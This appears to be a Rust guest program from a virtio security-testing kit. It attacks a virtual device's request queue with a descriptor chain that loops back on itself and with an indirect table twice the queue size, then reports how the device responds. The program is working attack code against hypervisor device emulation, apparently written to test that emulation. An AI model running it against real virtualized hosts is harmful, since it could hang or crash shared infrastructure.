//! Publishes descriptor chains longer than the queue on the target
//! device's request queue (see `virtq-kit` for the choice of device):
//! 1. one chain through every descriptor of the table whose last links
//!    back to the first, so a device that counts finds more than QueueNum
//!    descriptors (block: header, data buffers, status; rng: writable
//!    buffers; console: readable ones),
//! 2. if the device offers VIRTIO_F_INDIRECT_DESC (negotiated only for
//!    this), after a reset, one indirect table of twice the queue size,
//!    linked in order without a loop.
//!
//! Each is reported with what came back. See `virtq-kit` for the choice
//! of device and the frame around the attack.
#![no_std]
#![no_main]

use core::ptr;

use guest_rt::abi::PAGE_SIZE;
use guest_rt::{println, BootInfo};
use guest_virtio::ring::{DESC_F_INDIRECT, DESC_F_NEXT, DESC_F_WRITE};
use guest_virtio::{dma, feature, VirtioError};
use virtq_kit::session::DATA_LEN;
use virtq_kit::{Kind, Session, Target};

const NAME: &str = "virtq-long-chain";

fn main(boot: &'static BootInfo, _vcpu: u64) -> u32 {
    virtq_kit::run(NAME, boot, attack)
}

fn attack(s: &mut Session) -> Result<(), VirtioError> {
    let n = s.queue.size();
    for i in 0..n {
        let (addr, len, flags) = buffer(s, i, n);
        // SAFETY: every buffer is the session's scratch memory.
        unsafe { s.desc(i, addr, len, flags | DESC_F_NEXT, (i + 1) % n) };
    }
    s.publish(0);
    println!("{NAME}: published a chain through all {n} descriptors, the last linked back to 0");
    s.report(format_args!("chain of more than {n} descriptors"));
    if s.transport.offered() & feature::INDIRECT_DESC == 0 {
        println!("{NAME}: VIRTIO_F_INDIRECT_DESC not offered: no indirect chain");
        return Ok(());
    }
    match indirect(&s.target)? {
        Some(new) => *s = new,
        None => println!("{NAME}: VIRTIO_F_INDIRECT_DESC not taken: no indirect chain"),
    }
    Ok(())
}

/// Descriptor `i` of `n` in a chain: a request's shape for the device.
fn buffer(s: &Session, i: u16, n: u16) -> (u64, u32, u16) {
    match s.target.kind {
        Kind::Block if i == 0 => (s.header(), 16, 0),
        Kind::Block if i == n - 1 => (s.status(), 1, DESC_F_WRITE),
        Kind::Block | Kind::Rng => (s.data(), DATA_LEN, DESC_F_WRITE),
        Kind::Console => (s.data(), 16, 0),
    }
}

/// Resets the device with INDIRECT_DESC and publishes one indirect table
/// of twice the queue size; `None` if the feature was not negotiated.
fn indirect(target: &Target) -> Result<Option<Session>, VirtioError> {
    let mut s = Session::start(target, feature::INDIRECT_DESC)?;
    if s.transport.features() & feature::INDIRECT_DESC == 0 {
        return Ok(None);
    }
    s.valid_request(0);
    let n = s.queue.size().saturating_mul(2);
    let table = dma::alloc_zeroed(16 * u64::from(n), PAGE_SIZE).ok_or(VirtioError::OutOfMemory)?;
    for i in 0..n {
        let (addr, len, flags) = buffer(&s, i, n);
        let next_flag = if i + 1 < n { DESC_F_NEXT } else { 0 };
        let mut entry = [0u8; 16];
        entry[..8].copy_from_slice(&addr.to_le_bytes());
        entry[8..12].copy_from_slice(&len.to_le_bytes());
        entry[12..14].copy_from_slice(&(flags | next_flag).to_le_bytes());
        entry[14..].copy_from_slice(&(i + 1).to_le_bytes());
        // SAFETY: the table is fresh arena memory of `n` entries, used
        // only by this chain; each entry points at the session's scratch.
        unsafe { ptr::write_volatile((table + 16 * u64::from(i)) as *mut [u8; 16], entry) };
    }
    // SAFETY: the descriptor points at the indirect table above.
    unsafe { s.desc(0, table, 16 * u32::from(n), DESC_F_INDIRECT, 0) };
    s.publish(0);
    println!(
        "{NAME}: published an indirect table of {n} descriptors (queue size {})",
        n / 2
    );
    s.report(format_args!("indirect chain of {n} descriptors"));
    Ok(Some(s))
}

guest_rt::entry!(main);
